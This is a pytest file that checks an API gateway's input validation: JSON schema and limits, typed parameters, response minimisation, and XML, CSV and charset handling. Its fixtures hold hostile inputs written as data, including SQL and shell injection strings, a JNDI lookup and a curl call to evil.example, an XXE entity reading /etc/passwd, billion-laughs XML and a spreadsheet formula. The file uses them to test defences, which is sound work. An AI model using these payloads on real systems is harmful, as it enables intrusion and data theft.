"""Boundary validation through the real gateway: hostile input is refused and never forwarded.

Routes of the harness' ``validated`` integration: ``POST /v/orders`` (JSON
Schema, 64 KiB, two business rules), ``GET /v/orders/{id}`` (typed path and
query parameters, a response allow-list), ``POST /v/forward`` (request
minimisation), ``POST /v/xml``, ``POST /v/csv`` and ``GET /v/blob/{size}``
(an allow-list on a response that is not JSON).
"""

from __future__ import annotations

import asyncio
import json
import socket
import ssl
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from interlock.testing.gateway import Env

ORDER: dict[str, Any] = {
    "customer_id": "C-0042",
    "delivery_date": "2026-12-24",
    "total": 25.5,
    "lines": [
        {"sku": "SKU-1", "quantity": 2, "unit_price": 10},
        {"sku": "SKU-2", "quantity": 1, "unit_price": 5.5},
    ],
}
INJECTIONS = [
    "1 OR 1=1",
    "1' OR '1'='1",
    "1; DROP TABLE orders;--",
    "1 UNION SELECT password FROM users",
    "$(reboot)",
    "`id`",
    "1 | cat /etc/passwd",
    "1 && curl evil.example",
    "../../etc/passwd",
    "1\r\nX-Injected: yes",
    "${jndi:ldap://evil.example/a}",
    "1%00",
    "<script>alert(1)</script>",
]


@pytest.fixture(scope="module")
def writer(env: Env) -> dict[str, str]:
    """An API key for order-sync with both scopes."""
    token, _ = env.key(["orders.read", "orders.write"])
    return {"X-API-Key": token}


def _post(
    env: Env,
    path: str,
    headers: dict[str, str],
    body: bytes,
    content_type: str = "application/json",
) -> tuple[int, dict[str, str], Any]:
    return env.request("POST", path, {**headers, "Content-Type": content_type}, body)


def _errors(problem: dict[str, Any]) -> list[tuple[str | None, str]]:
    return [
        (e.get("pointer") or e.get("parameter") or e.get("rule"), e["detail"])
        for e in problem["errors"]
    ]


# --- JSON bodies ---


def test_a_valid_order_is_forwarded_unchanged(env: Env, writer: dict[str, str]) -> None:
    body = json.dumps(ORDER).encode()
    status, _, payload = _post(env, "/v/orders", writer, body)
    assert status == 200, payload
    assert json.loads(payload["body"]) == ORDER


def test_every_schema_violation_is_reported_at_once(env: Env, writer: dict[str, str]) -> None:
    bad = {
        "customer_id": "42",
        "total": -1,
        "lines": [{"sku": "SKU-1", "quantity": "5", "unit_price": 1}, {"sku": "X", "quantity": 0}],
        "extra": True,
    }
    status, headers, problem = _post(env, "/v/orders", writer, json.dumps(bad).encode())
    assert status == 422
    assert headers["content-type"] == "application/problem+json"
    assert problem["type"] == "urn:interlock:problem:schema-violation"
    pointers = {pointer for pointer, _ in _errors(problem)}
    assert {"#/customer_id", "#/total", "#/lines/0/quantity", "#/lines/1/sku"} <= pointers
    assert "#/lines/1" in pointers  # unit_price missing
    assert any(p in {"#", "#/extra"} for p in pointers)  # additional property
    detail = dict(_errors(problem))["#/lines/0/quantity"]
    assert "integer" in detail  # type confusion: "5" is a string


def test_business_rules_report_every_violation(env: Env, writer: dict[str, str]) -> None:
    order = {
        **ORDER,
        "total": 99,
        "lines": [*ORDER["lines"], {"sku": "SKU-666", "quantity": 1, "unit_price": 0}],
    }
    status, _, problem = _post(env, "/v/orders", writer, json.dumps(order).encode())
    assert status == 422
    assert problem["type"] == "urn:interlock:problem:rule-violation"
    assert [(e["rule"], e["detail"]) for e in problem["errors"]] == [
        ("order_total_matches_lines", "total must equal the sum of the lines (25.50)"),
        ("product_sellable", "the product is not sellable (SKU-666)"),
    ]
    assert problem["errors"][0]["pointer"] == "#/total"


@pytest.mark.parametrize(
    ("body", "code", "pointer"),
    [
        (b'{"a":' * 100 + b"1" + b"}" * 100, "json-limit-exceeded", None),
        (b'{"total": 1, "total": 2}', "duplicate-key", "#/total"),
        (b'{"customer_id": "C-\xff\xfe"}', "invalid-encoding", None),
        (b'{"total": 1e999999}', "json-limit-exceeded", "#/total"),
        (b'{"total": ' + b"9" * 5000 + b"}", "json-limit-exceeded", "#/total"),
        (b'{"total": NaN}', "malformed-body", None),
        (b'{"total": 1', "malformed-body", None),
        (b"\xef\xbb\xbf{}", "invalid-encoding", None),
    ],
    ids=[
        "depth",
        "duplicate",
        "utf8",
        "1e999999",
        "long-int",
        "nan",
        "truncated",
        "bom",
    ],
)
def test_hostile_json_is_refused_with_400(
    env: Env, writer: dict[str, str], body: bytes, code: str, pointer: str | None
) -> None:
    status, _, problem = _post(env, "/v/orders", writer, body)
    assert status == 400, problem
    assert problem["type"] == f"urn:interlock:problem:{code}"
    if pointer is not None:
        assert problem["errors"][0]["pointer"] == pointer


def test_a_depth_bomb_is_refused_cleanly(env: Env, writer: dict[str, str]) -> None:
    """100 000 nested arrays on a route with a 1 MiB limit: 400, never a 500."""
    body = b"[" * 100_000 + b"]" * 100_000
    status, _, problem = _post(env, "/v/forward", writer, body)
    assert status == 400
    assert problem["type"] == "urn:interlock:problem:json-limit-exceeded"


def test_a_body_on_a_route_that_declares_none_is_refused_unforwarded(
    env: Env, writer: dict[str, str]
) -> None:
    """RFC 9110 §9.3.1: a GET body has no defined semantics; this route declares none: 400."""
    body = json.dumps({"injected": "<script>", "ssn": "123-45-6789"}).encode()
    headers = {**writer, "Content-Type": "application/json"}
    status, _, problem = env.request("GET", "/echo/x", headers, body)
    assert status == 400, problem
    assert problem["type"].endswith(":body-not-allowed")
    assert "123-45-6789" not in json.dumps(problem)


def test_a_get_without_a_body_still_passes(env: Env, writer: dict[str, str]) -> None:
    """An empty body (Content-Length: 0) is no body."""
    status, _, _ = env.request("GET", "/echo/x", {**writer, "Content-Length": "0"})
    assert status == 200


def test_the_wrong_content_type_is_415(env: Env, writer: dict[str, str]) -> None:
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
        status, _, problem = _post(env, "/v/orders", writer, b"{}", content_type)
        assert status == 415
        assert "application/json" in problem["detail"]
    status, _, _ = env.request(
        "POST",
        "/v/orders",
        {**writer, "Content-Type": "application/json", "Content-Encoding": "gzip"},
        b"{}",
    )
    assert status == 415


def test_a_body_over_the_limit_is_413(env: Env, writer: dict[str, str]) -> None:
    status, _, problem = _post(env, "/v/orders", writer, b"[" + b"1," * 40_000 + b"1]")
    assert status == 413
    assert problem["type"] == "urn:interlock:problem:body-too-large"


def test_a_100_mb_body_is_refused_before_it_is_read(env: Env, writer: dict[str, str]) -> None:
    """Content-Length says 100 MB; the gateway answers 413 after the headers alone."""
    head = (
        "POST /v/forward HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        f"X-API-Key: {writer['X-API-Key']}\r\nContent-Length: {100 * 1024 * 1024}\r\n\r\n"
    ).encode()
    answer = env.raw(head + b"[" + b"0," * 1000)  # a little of the body, then nothing
    assert answer.startswith(b"HTTP/1.1 413")


def test_a_chunked_body_is_cut_off_at_the_limit(env: Env, writer: dict[str, str]) -> None:
    """Without a length, the gateway reads at most the limit (64 KiB) plus a chunk, then 413."""
    context = ssl.create_default_context(cafile=str(env.ca_file))
    sent = 0
    with (
        socket.create_connection(("127.0.0.1", env.port), timeout=10) as plain,
        context.wrap_socket(plain, server_hostname="127.0.0.1") as tls,
    ):
        tls.sendall(
            (
                "POST /v/orders HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                f"X-API-Key: {writer['X-API-Key']}\r\nTransfer-Encoding: chunked\r\n\r\n"
            ).encode()
        )
        chunk = b"1," * 8192
        answer = b""
        try:
            for _ in range(1000):  # up to 16 MB if nobody stopped us
                tls.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            pass
        try:
            answer = tls.recv(65536)
        except (ConnectionResetError, ssl.SSLError, TimeoutError):
            answer = b""
    assert sent < 16 * 1024 * 1024
    assert answer.startswith(b"HTTP/1.1 413") or answer == b""


# --- parameters ---


def test_typed_parameters_pass(env: Env, writer: dict[str, str]) -> None:
    status, _, payload = env.request(
        "GET", "/v/orders/1001?status=open&limit=5&since=2026-01-31", writer
    )
    assert status == 200, payload


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_injection_strings_in_the_path_are_refused(
    env: Env, writer: dict[str, str], hostile: str
) -> None:
    status, _, problem = env.request("GET", "/v/orders/" + quote(hostile, safe=""), writer)
    assert status in {400, 404}, problem  # 404: a decoded '/' makes it another path
    if status == 400:
        assert problem["type"] in {
            "urn:interlock:problem:invalid-parameter",
            "urn:interlock:problem:bad-path",
        }


@pytest.mark.parametrize("hostile", INJECTIONS)
@pytest.mark.parametrize("name", ["status", "limit", "since"])
def test_injection_strings_in_the_query_are_refused(
    env: Env, writer: dict[str, str], hostile: str, name: str
) -> None:
    status, _, problem = env.request(
        "GET", f"/v/orders/1001?{name}={quote(hostile, safe='')}", writer
    )
    assert status == 400, problem
    assert problem["errors"][0]["parameter"] == name


def test_unknown_and_repeated_query_parameters_are_refused(
    env: Env, writer: dict[str, str]
) -> None:
    status, _, problem = env.request("GET", "/v/orders/1001?debug=1", writer)
    assert (status, problem["errors"][0]["parameter"]) == (400, "debug")
    status, _, problem = env.request("GET", "/v/orders/1001?limit=1&limit=2", writer)
    assert (status, problem["errors"][0]["parameter"]) == (400, "limit")


def test_a_path_parameter_out_of_range_is_refused(env: Env, writer: dict[str, str]) -> None:
    status, _, problem = env.request("GET", "/v/orders/99999", writer)
    assert (status, problem["errors"][0]["parameter"]) == (400, "id")


# --- minimisation ---


def test_the_response_keeps_only_the_allowed_fields(env: Env, writer: dict[str, str]) -> None:
    status, _, payload = env.request("GET", "/v/orders/1002", writer)
    assert status == 200
    assert payload == {"id": "1002", "status": "shipped", "customer": {"email": "alan@example.com"}}
    record = [
        line
        for line in _log_lines(env)
        if line.get("event") == "request" and line.get("route") == "GET /v/orders/{id}"
    ][-1]
    # total, currency, internal_margin, customer.name, customer.tax_id
    assert record["removed_fields"] == 5


def test_a_response_that_cannot_be_filtered_is_refused(env: Env, writer: dict[str, str]) -> None:
    status, _, problem = env.request("GET", "/v/blob/64", writer)
    assert status == 502
    assert problem["type"] == "urn:interlock:problem:response-not-filterable"
    assert "xxxx" not in json.dumps(problem)


def test_the_forwarded_request_keeps_only_the_allowed_fields(
    env: Env, writer: dict[str, str]
) -> None:
    body = {"order_id": 7, "customer": {"name": "Ada"}, "lines": [{"sku": "SKU-1", "price": 3}]}
    status, _, payload = _post(env, "/v/forward", writer, json.dumps(body).encode())
    assert status == 200
    assert json.loads(payload["body"]) == {"order_id": 7, "lines": [{"sku": "SKU-1"}]}


@pytest.mark.parametrize(
    "content_type", ["application/json; charset=utf-16", 'application/json; charset="latin1"']
)
def test_a_response_in_another_charset_is_not_relayed_minimised(content_type: str) -> None:
    """The filter reads and rewrites UTF-8: a body labelled otherwise is 502, not mislabelled.

    Before, the stage passed aiohttp's parameter-less ``content_type``, so the
    check never ran and a UTF-8 body went out labelled ``charset=utf-16``.
    """
    from unittest import mock

    from aiohttp import web

    from interlock.errors import Refusal
    from interlock.gateway.context import RequestContext
    from interlock.gateway.stages.validate import MinimisedForward
    from interlock.validation.minimise import FieldFilter

    async def upstream(_: RequestContext) -> web.Response:
        body = b'{"id": 1, "secret": "x"}'
        return web.Response(body=body, headers={"Content-Type": content_type})

    forward = MinimisedForward(FieldFilter(["id"]), upstream)
    with pytest.raises(Refusal) as refused:
        asyncio.run(forward(mock.Mock(spec=RequestContext, removed_fields=0)))
    assert refused.value.code == "response-not-filterable"


# --- XML and CSV ---


def test_xml_is_parsed_safely(env: Env, writer: dict[str, str]) -> None:
    good = b"<?xml version='1.0'?><order><line sku='SKU-1'>2</line></order>"
    status, _, payload = _post(env, "/v/xml", writer, good, "application/xml")
    assert status == 200, payload
    xxe = (
        b"<?xml version='1.0'?><!DOCTYPE o [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
        b"<order>&x;</order>"
    )
    laughs = (
        b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'aaaaaaaaaa'>"
        b"<!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]>"
        b"<l>&c;</l>"
    )
    external = b"<?xml version='1.0'?><!DOCTYPE o SYSTEM 'http://127.0.0.1:9/x.dtd'><o/>"
    for hostile in (xxe, laughs, external):
        status, _, problem = _post(env, "/v/xml", writer, hostile, "application/xml")
        assert status == 400, problem
        assert "passwd" not in json.dumps(problem)
    deep = b"<a>" * 20 + b"</a>" * 20
    assert _post(env, "/v/xml", writer, deep, "text/xml")[0] == 400


@pytest.mark.parametrize(
    "body",
    [
        b'<o xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></o>',
        b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><o/>',
    ],
)
def test_xinclude_and_stylesheet_references_are_not_forwarded(
    env: Env, writer: dict[str, str], body: bytes
) -> None:
    """External references without a DTD: 400 xml-refused, as docs/validation.md says (was 200)."""
    status, _, problem = _post(env, "/v/xml", writer, body, "application/xml")
    assert status == 400, problem
    assert problem["type"] == "urn:interlock:problem:xml-refused"


def test_csv_formula_cells_are_neutralised_before_forwarding(
    env: Env, writer: dict[str, str]
) -> None:
    csv = (
        b'sku,note\r\nSKU-1,"=HYPERLINK(""http://evil.example"",""x"")"\r\n'
        b"SKU-2,@SUM(A1)\r\nSKU-3,fine\r\n"
    )
    status, _, payload = _post(env, "/v/csv", writer, csv, "text/csv")
    assert status == 200, payload
    forwarded = payload["body"]
    assert "'=HYPERLINK" in forwarded
    assert "'@SUM(A1)" in forwarded
    assert "SKU-3,fine" in forwarded
    too_many = b"a\r\n" + b"1\r\n" * 10
    assert _post(env, "/v/csv", writer, too_many, "text/csv")[0] in {400, 413}


# --- the body's character set (the review's finding 1) ---

_BY_KIND = {
    "json": ("/v/orders", "application/json", json.dumps(ORDER).encode()),
    "csv": ("/v/csv", "text/csv", b"sku,note\r\nSKU-1,fine\r\n"),
    "xml": ("/v/xml", "application/xml", b"<order><line sku='SKU-1'>2</line></order>"),
}


@pytest.mark.parametrize("kind", sorted(_BY_KIND))
@pytest.mark.parametrize(
    "parameters",
    [
        "charset=utf-7",
        "charset=UTF-16",
        'charset="iso-2022-jp"',
        "charset=us-ascii",
        "charset=utf-8; charset=utf-7",
        "CHARSET = utf-7",
        "charset*=utf-7",
        'x="a;charset=utf-7"',
    ],
)
def test_a_body_declared_in_another_charset_is_refused_with_415(
    env: Env, writer: dict[str, str], kind: str, parameters: str
) -> None:
    """The gateway checks the body as UTF-8: one the upstream would read otherwise never passes.

    Before, ``charset=utf-7`` was forwarded as sent, and ``+ACIALAAi-amount+ACI-:999``
    became a JSON member, a CSV row or a DOCTYPE the gateway never saw (was 200).
    """
    path, media, body = _BY_KIND[kind]
    status, headers, problem = _post(env, path, writer, body, f"{media}; {parameters}")
    assert status == 415, problem
    assert headers["content-type"] == "application/problem+json"
    assert problem["type"] == "urn:interlock:problem:unsupported-media-type"
    assert "utf-8" in problem["detail"]


@pytest.mark.parametrize("kind", sorted(_BY_KIND))
@pytest.mark.parametrize("parameters", ["", "; charset=utf-8", '; Charset="UTF-8"'])
def test_the_upstream_is_told_the_charset_the_gateway_checked(
    env: Env, writer: dict[str, str], kind: str, parameters: str
) -> None:
    """A validated body is forwarded with ``<media type>; charset=utf-8``, whatever was sent."""
    path, media, body = _BY_KIND[kind]
    status, _, payload = _post(env, path, writer, body, media + parameters)
    assert status == 200, payload
    forwarded = {k.lower(): v for k, v in payload["headers"].items()}
    assert forwarded["content-type"] == f"{media}; charset=utf-8"


# --- hygiene ---


def test_problems_never_carry_internal_detail(env: Env, writer: dict[str, str]) -> None:
    bodies = [b'{"total": 1', b"\xff", b'{"lines": [{"sku": "' + b"A" * 1000 + b'"}]}']
    for body in bodies:
        _, _, problem = _post(env, "/v/orders", writer, body)
        text = json.dumps(problem)
        for leak in ("Traceback", 'File "', "/work/", "site-packages", "SELECT", "sqlite", ".py"):
            assert leak not in text, (leak, text)
        assert "A" * 100 not in text  # echoed input is capped


def _log_lines(env: Env) -> Iterator[dict[str, Any]]:
    for line in env.logs.getvalue().splitlines():
        try:
            yield json.loads(line)
        except ValueError:
            continue
